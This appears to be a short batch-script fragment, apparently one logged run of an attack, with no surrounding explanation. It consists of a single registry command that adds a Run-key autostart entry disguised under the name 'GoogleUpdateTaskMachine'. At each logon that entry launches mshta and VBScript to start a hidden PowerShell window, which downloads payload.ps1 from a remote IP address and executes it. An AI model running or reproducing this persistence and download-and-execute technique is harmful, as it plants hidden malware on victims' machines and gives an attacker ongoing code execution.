REM run 9328 v1
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v GoogleUpdateTaskMachine /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://203.0.113.200/payload.ps1|iex\"\", 0:close\")" /f
